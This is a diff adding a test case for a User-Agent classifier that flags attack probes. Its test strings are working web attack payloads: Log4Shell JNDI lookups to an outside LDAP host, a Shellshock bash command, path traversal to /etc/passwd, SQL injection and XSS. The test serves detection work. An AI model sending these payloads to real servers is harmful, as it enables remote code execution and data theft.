@@ -240,6 +240,32 @@ describe('classification', () => {
     ).toBe(false);
   });
 
+  it("takes a User-Agent that carries an attack's payload for an attack probe, whatever browser it also names", () => {
+    const chrome =
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
+    for (const ua of [
+      '${jndi:ldap://198.51.100.7:1389/Exploit}',
+      '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.7/a}',
+      '() { :; }; /bin/bash -c "id"',
+      '../../../../etc/passwd',
+      '%252e%252e%252fboot.ini',
+      `${chrome}' AND 4712=4712-- QxZt`,
+      `${chrome}" OR "1"="1`,
+      `${chrome}';SELECT pg_sleep(5);--`,
+      `${chrome}<script>alert(1)</script>`,
+      '{{7*7}}',
+    ])
+      expect(classify(ua), ua).toMatchObject({ bot: true, family: 'attack probe' });
+    // What looks alike in people's and bots' own strings is no payload.
+    expect(
+      classify(
+        'Opera/9.80 (Linux sh4 ; U; HBBTV/1.0 (; LOH/1.00; -----;;;) CE-HTML/1.0 Config(L:de,CC:AT); en) Presto/2.5.21 Version/10.30',
+      ).bot,
+    ).toBe(false);
+    expect(classify('RankingBot2 -- https://ranking.example/bot').family).toBe('RankingBot2');
+    expect(classify(`${chrome} (compatible; select-from-list app)`).family).not.toBe('attack probe');
+  });
+
   it('reads only a bounded prefix and answers from the cache for the same prefix', () => {
     const ua = 'Mozilla/5.0 (compatible; GPTBot/1.2)';
     expect(classify(ua)).toBe(classify(ua));
